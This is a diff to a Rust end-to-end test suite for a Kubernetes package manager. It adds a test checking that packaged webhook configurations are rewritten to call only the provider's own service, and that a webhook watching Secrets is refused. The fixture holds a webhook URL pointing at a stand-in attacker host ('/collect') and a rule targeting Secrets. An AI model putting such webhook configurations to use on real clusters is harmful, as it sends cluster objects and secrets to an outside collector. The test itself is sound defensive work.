@@ -37,22 +37,7 @@ fn upstream() -> &'static Upstream {
         // own Object provider serves (kubernetes.crossplane.io): whoever
         // runs upstream's removes ours first, as here. The package-manager
         // never takes over CRDs it did not install.
-        kubectl(&[
-            "delete",
-            "deployment",
-            "object-provider",
-            "-n",
-            NS,
-            "--ignore-not-found",
-        ]);
-        kubectl(&[
-            "delete",
-            "crd",
-            "objects.kubernetes.crossplane.io",
-            "providerconfigs.kubernetes.crossplane.io",
-            "providerconfigusages.kubernetes.crossplane.io",
-            "--ignore-not-found",
-        ]);
+        e2e::shipped::remove_object_provider();
         let references = e2e::upstream::provider_kubernetes_versions()
             .iter()
             .map(|v| {
@@ -129,7 +114,10 @@ fn an_upstream_built_provider_installs_runs_and_upgrades_without_a_conversion_er
         .as_str()
         .unwrap()
         .to_owned();
-    let image = first["spec"]["image"].as_str().unwrap_or_default().to_owned();
+    let image = first["spec"]["image"]
+        .as_str()
+        .unwrap_or_default()
+        .to_owned();
     assert!(
         image.ends_with(&format!("/crossplane-contrib/provider-kubernetes@{digest}")),
         "the revision runs the package image itself: {image} ({digest})"
@@ -149,15 +137,26 @@ fn an_upstream_built_provider_installs_runs_and_upgrades_without_a_conversion_er
     let container = &pod["spec"]["containers"][0];
     assert_eq!(container["image"], image.as_str());
     let mounts = container["volumeMounts"].to_string();
-    assert!(mounts.contains("/tls/server") && mounts.contains("/tls/client"), "{mounts}");
+    assert!(
+        mounts.contains("/tls/server") && mounts.contains("/tls/client"),
+        "{mounts}"
+    );
     let volumes = pod["spec"]["volumes"].to_string();
     assert!(
         volumes.contains("provider-kubernetes-tls-server")
             && volumes.contains("provider-kubernetes-tls-client"),
         "{volumes}"
     );
-    assert!(!pod["spec"]["nodeName"].as_str().unwrap_or_default().is_empty());
-    for secret in ["provider-kubernetes-tls-server", "provider-kubernetes-tls-client"] {
+    assert!(
+        !pod["spec"]["nodeName"]
+            .as_str()
+            .unwrap_or_default()
+            .is_empty()
+    );
+    for secret in [
+        "provider-kubernetes-tls-server",
+        "provider-kubernetes-tls-client",
+    ] {
         let s = get_json(&["secret", secret, "-n", NS]).unwrap();
         for key in ["tls.crt", "tls.key", "ca.crt"] {
             assert!(s["data"][key].is_string(), "{secret} has {key}");
@@ -295,7 +294,13 @@ fn an_upstream_built_provider_installs_runs_and_upgrades_without_a_conversion_er
     let o = get_json(&["objects.kubernetes.crossplane.io", &object]).unwrap();
     assert_eq!(condition(&o, "Ready").map(|c| c.0), Some("True".to_owned()));
 
-    kubectl(&["delete", "objects.kubernetes.crossplane.io", &object, "--wait=true", "--timeout=120s"]);
+    kubectl(&[
+        "delete",
+        "objects.kubernetes.crossplane.io",
+        &object,
+        "--wait=true",
+        "--timeout=120s",
+    ]);
     assert!(get_json(&["configmap", &object, "-n", &ns]).is_none());
 }
 
@@ -311,7 +316,12 @@ fn a_package_of_crds_alone_runs_nothing_and_claims_no_runtime() {
     xpkg_push(&dir, &reference, None);
     let name = testenv::unique_name("crdonly");
     apply(&provider_yaml(&name, &reference, ""));
-    wait(Duration::from_secs(120), "the CRD-only Provider Healthy", || healthy(&name), explain);
+    wait(
+        Duration::from_secs(120),
+        "the CRD-only Provider Healthy",
+        || healthy(&name),
+        explain,
+    );
     let revs = revisions(&name);
     let r = revs.last().unwrap();
     assert!(r["spec"]["image"].is_null(), "{r}");
@@ -320,7 +330,12 @@ fn a_package_of_crds_alone_runs_nothing_and_claims_no_runtime() {
         "a package that runs nothing claims no runtime: {r}"
     );
     assert!(runtime_pods(&name).is_empty());
-    kubectl(&["delete", "providers.pkg.crossplane.io", &name, "--wait=false"]);
+    kubectl(&[
+        "delete",
+        "providers.pkg.crossplane.io",
+        &name,
+        "--wait=false",
+    ]);
 }
 
 /// Labels and annotations of a runtime object and the revision's roles.
@@ -349,13 +364,20 @@ fn common_labels_and_annotations_reach_everything_a_provider_makes_and_follow_an
     let spec = |labels: &str| {
         format!("  commonLabels: {{{labels}}}\n  commonAnnotations: {{owner: platform-team}}\n")
     };
-    apply(&provider_yaml(&name, &reference, &spec("team: a, tier: gold")));
+    apply(&provider_yaml(
+        &name,
+        &reference,
+        &spec("team: a, tier: gold"),
+    ));
     // Everything, each checked: (what, labels, annotations).
     let everything = |name: &str| -> Vec<(String, Value, Value)> {
         let Some(rev) = revisions(name).last().cloned() else {
             return Vec::new();
         };
-        let rev_name = rev["metadata"]["name"].as_str().unwrap_or_default().to_owned();
+        let rev_name = rev["metadata"]["name"]
+            .as_str()
+            .unwrap_or_default()
+            .to_owned();
         let mut all = vec![(
             "ProviderRevision".to_owned(),
             rev["metadata"]["labels"].clone(),
@@ -420,5 +442,98 @@ fn common_labels_and_annotations_reach_everything_a_provider_makes_and_follow_an
         || check(&[("team", Some("b")), ("tier", None)]),
         show,
     );
-    kubectl(&["delete", "providers.pkg.crossplane.io", &name, "--wait=false"]);
+    kubectl(&[
+        "delete",
+        "providers.pkg.crossplane.io",
+        &name,
+        "--wait=false",
+    ]);
+}
+
+fn webhook_yaml(name: &str, group: &str, rules: &str) -> String {
+    format!(
+        "apiVersion: admissionregistration.k8s.io/v1\nkind: ValidatingWebhookConfiguration\nmetadata:\n  name: {name}\nwebhooks:\n- name: things.{group}\n  clientConfig:\n    url: https://attacker.example:443/collect\n  rules:\n{rules}  sideEffects: None\n  failurePolicy: Ignore\n  admissionReviewVersions: [v1]\n"
+    )
+}
+
+#[test]
+fn a_packages_webhook_configuration_calls_only_its_own_runtime_about_its_own_kinds() {
+    shipped();
+    let g = format!("{}.example.org", testenv::unique_name("hooks"));
+    let (file, crd) = test_crd(&g, "Thing");
+    let name = testenv::unique_name("hooks");
+    let hook = format!("{name}-validate");
+    let dir = package_dir("provider-hooks", "", &[(file, crd)]);
+    // Beside the CRD, the package ships a webhook configuration for its
+    // own kind, whose URL points elsewhere.
+    std::fs::write(
+        dir.join("crds/webhooks.yaml"),
+        webhook_yaml(
+            &hook,
+            &g,
+            &format!("  - {{apiGroups: [\"{g}\"], apiVersions: [v1alpha1], operations: [CREATE, UPDATE], resources: [things]}}\n"),
+        ),
+    )
+    .unwrap();
+    let reference = format!("{}/hooks/provider-hooks:v1", shipped().registry.address);
+    xpkg_push(&dir, &reference, Some(&shipped().pause_image));
+    apply(&provider_yaml(&name, &reference, ""));
+    let installed = wait(
+        Duration::from_secs(120),
+        "the package's ValidatingWebhookConfiguration installed",
+        || get_json(&["validatingwebhookconfiguration", &hook]),
+        explain,
+    );
+    let client = &installed["webhooks"][0]["clientConfig"];
+    assert!(client.get("url").is_none(), "{client}");
+    assert_eq!(client["service"]["name"], name.as_str());
+    assert_eq!(client["service"]["namespace"], NS);
+    assert_eq!(client["service"]["port"], 9443);
+    let secret = get_json(&["secret", &format!("{name}-tls-server"), "-n", NS]).unwrap();
+    assert_eq!(
+        client["caBundle"], secret["data"]["ca.crt"],
+        "the API server trusts the provider's CA"
+    );
+    let revision = revisions(&name).last().cloned().unwrap();
+    assert_eq!(
+        installed["metadata"]["ownerReferences"][0]["name"],
+        revision["metadata"]["name"]
+    );
+
+    // One that would see Secrets is refused, and nothing of it installs.
+    let g2 = format!("{}.example.org", testenv::unique_name("snoop"));
+    let (file, crd) = test_crd(&g2, "Thing");
+    let name2 = testenv::unique_name("snoop");
+    let hook2 = format!("{name2}-snoop");
+    let dir = package_dir("provider-snoop", "", &[(file, crd)]);
+    std::fs::write(
+        dir.join("crds/webhooks.yaml"),
+        webhook_yaml(
+            &hook2,
+            &g2,
+            "  - {apiGroups: [\"\"], apiVersions: [v1], operations: [CREATE, UPDATE], resources: [secrets]}\n",
+        ),
+    )
+    .unwrap();
+    let reference = format!("{}/snoop/provider-snoop:v1", shipped().registry.address);
+    xpkg_push(&dir, &reference, Some(&shipped().pause_image));
+    apply(&provider_yaml(&name2, &reference, ""));
+    wait(
+        Duration::from_secs(120),
+        "the snooping package refused, naming the rule",
+        || {
+            let r = revisions(&name2).last().cloned()?;
+            let (status, message) = condition(&r, "Healthy")?;
+            (status == "False"
+                && message.contains(&format!("ValidatingWebhookConfiguration {hook2}"))
+                && message.contains("resource \"secrets\""))
+            .then_some(())
+        },
+        explain,
+    );
+    assert!(get_json(&["validatingwebhookconfiguration", &hook2]).is_none());
+    assert!(get_json(&["crd", &format!("things.{g2}")]).is_none());
+    for n in [&name, &name2] {
+        kubectl(&["delete", "providers.pkg.crossplane.io", n, "--wait=false"]);
+    }
 }
